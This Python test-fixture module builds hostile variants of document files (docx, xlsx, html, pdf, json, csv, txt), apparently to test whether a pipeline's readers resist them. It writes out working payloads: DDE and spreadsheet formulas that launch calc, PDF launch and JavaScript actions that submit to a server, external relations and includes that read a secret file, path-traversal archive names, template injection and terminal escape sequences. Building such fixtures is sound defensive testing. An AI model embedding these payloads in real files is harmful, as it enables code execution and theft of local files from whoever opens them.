"""Sound plans in every format, with what that format alone can hold to harm a careless program.

Each function returns a file; `secret` is the address of a file that must not be read, `server`
one that must not be asked. The plan in each is `SMALL`, but for what the format says otherwise.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from functools import cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from pipeline.layout import load_layout
from pipeline.publication import Publication
from pipeline.render import renderer
from tests.plans import SMALL

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@cache
def _sound(format_: str) -> bytes:
    layout = load_layout("devon-and-cornwall")
    return renderer(format_)(Publication(SMALL, layout, "plan"))


def _members(format_: str) -> dict[str, str | bytes]:
    with zipfile.ZipFile(io.BytesIO(_sound(format_))) as file:
        members = {name: file.read(name) for name in file.namelist()}
    return {n: d.decode() if n.endswith((".xml", ".rels")) else d for n, d in members.items()}


def _packed(members: Mapping[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def _related(relations: str | bytes, targets: Mapping[str, str]) -> str:
    """Return `relations` with one for each kind of `targets`, all outside the file."""
    added = "".join(
        f'<Relationship Id="evil{n}" Type="{_RELATION}/{kind}" Target="{target}"'
        ' TargetMode="External"/>'
        for n, (kind, target) in enumerate(targets.items())
    )
    return str(relations).replace("</Relationships>", f"{added}</Relationships>")


def docx(secret: str, server: str) -> bytes:
    """Relations to files and servers, a document to include, fields that read and run."""
    members = _members("docx")
    targets = {
        **{"attachedTemplate": f"{server}/t.dotm", "image": f"{server}/i.png"},
        **{"aFChunk": secret, "oleObject": secret, "subDocument": secret, "frame": server},
    }
    relations = "word/_rels/document.xml.rels"
    members[relations] = _related(members[relations], targets)
    fields = (f'INCLUDETEXT "{secret}"', f'INCLUDEPICTURE "{server}"', r'DDEAUTO c:\\cmd "/c calc"')
    added = "".join(f"<w:p><w:fldSimple w:instr='{field}'/></w:p>" for field in fields)
    body = str(members["word/document.xml"])
    chunk = f'<w:altChunk xmlns:r="{_RELATION}" r:id="evil2"/>'
    members["word/document.xml"] = body.replace("<w:sectPr", f"{chunk}{added}<w:sectPr", 1)
    return _packed({**members, "../../evil.xml": b"x", "/tmp/evil.xml": b"x"})  # noqa: S108


def xlsx(secret: str, server: str) -> bytes:
    """Relations to other workbooks, connections, and formulas that fetch and run."""
    members = _members("xlsx")
    relations = "xl/_rels/workbook.xml.rels"
    members[relations] = _related(members[relations], {"externalLink": secret, "image": server})
    members["xl/connections.xml"] = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<connection id="1" name="x" type="4"><webPr url="{server}/q"/></connection></connections>'
    )
    sheet = str(members["xl/worksheets/sheet1.xml"])
    formulas = (f'WEBSERVICE("{server}/w")', "cmd|'/C calc'!A0", f"'{secret}'!A1")
    cells = "".join(
        f'<c r="{column}99" t="str"><f>{formula.replace("&", "&amp;")}</f><v>Kept.</v></c>'
        for column, formula in zip("FGH", formulas, strict=True)
    )
    row = f'<row r="99">{cells}</row></sheetData>'
    members["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", row)
    return _packed({**members, "../../evil.xml": b"x"})


def html(secret: str, server: str) -> bytes:
    """Everything in a page that fetches, includes or runs, in its head and in a cell."""
    head = (
        f'<base href="{server}/"><link rel="attachment" href="{secret}"><link rel="stylesheet" '
        f'href="{server}/s.css"><style>@import url({server}/i.css);@font-face{{font-family:x;'
        f'src:url({server}/f.woff)}}</style><script src="{server}/s.js"></script>'
        f'<meta http-equiv="refresh" content="0;url={server}/r">'
    )
    cell = (
        f'<img src="{secret}" srcset="{server}/2.png 2x"><iframe src="{secret}"></iframe>'
        f'<object data="{secret}"></object><embed src="{server}/e"><svg><image href="{secret}"/>'
        f'<use href="{server}/u#x"/></svg><video poster="{server}/p"></video>'
        f'<p style="background:url({server}/b)" onclick="go()">Planned.</p>'
    )
    page = _sound("html").decode()
    return page.replace("<head>", f"<head>{head}", 1).replace("Planned.", cell, 1).encode()


def pdf(secret: str, server: str) -> bytes:
    """Actions that run when it opens, streams in other files, attachments with paths."""
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(_sound("pdf"))) as file:
        script = Dictionary(S=Name.JavaScript, JS=String(f"this.submitForm('{server}')"))
        launch = Dictionary(S=Name.Launch, F=String("/bin/touch evil"), Next=script)
        file.Root.OpenAction = launch
        file.Root.AA = Dictionary(WC=script)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=launch)
        outside = file.make_stream(b"", F=Dictionary(FS=Name.URL, F=String(server)))
        elsewhere = file.make_stream(b"", F=String(secret.removeprefix("file://")))
        page = file.pages[0].obj
        page.Annots = Array([*page.get("/Annots", Array()), file.make_indirect(link)])
        page.Contents = Array([page.Contents, outside, elsewhere])
        evil = pikepdf.AttachedFileSpec(file, b"x", filename="../../evil.exe")
        file.attachments["../../evil.exe"] = evil
        file.save(buffer)
    return buffer.getvalue()


def json_(secret: str, server: str) -> bytes:
    """Addresses that are not links, and words that templates care for."""
    title = f"{{{{ 7*7 }}}} {{% include '{secret}' %}} ${{7*7}} <img src={server}>"
    text = _sound("json").decode().replace("https://example.org/a?b=1&c=2", secret, 1)
    return text.replace(SMALL.title, title, 1).encode()


def csv(secret: str, server: str) -> bytes:
    """Formulas in a cell."""
    formula = f"=WEBSERVICE(''{server}/''&A1)+cmd|'/C calc'!A0+'{secret}'!A1"
    text = _sound("csv").decode("utf-8-sig")
    return text.replace("Planned.", f"{formula} Planned.", 1).encode()


def txt(secret: str, server: str) -> bytes:
    """Markup, a byte order mark in the middle, and words that steer a terminal."""
    words = f"<img src='{server}'> \ufeff\x1b]8;;{secret}\x07\x9b31mPlanned.\u202e"
    return _sound("txt").decode().replace("Planned.", words, 1).encode()


HOSTILE: dict[str, Callable[[str, str], bytes]] = {
    **{"docx": docx, "xlsx": xlsx, "html": html, "pdf": pdf, "json": json_, "csv": csv, "txt": txt},
}
"""What makes the file, by its format."""
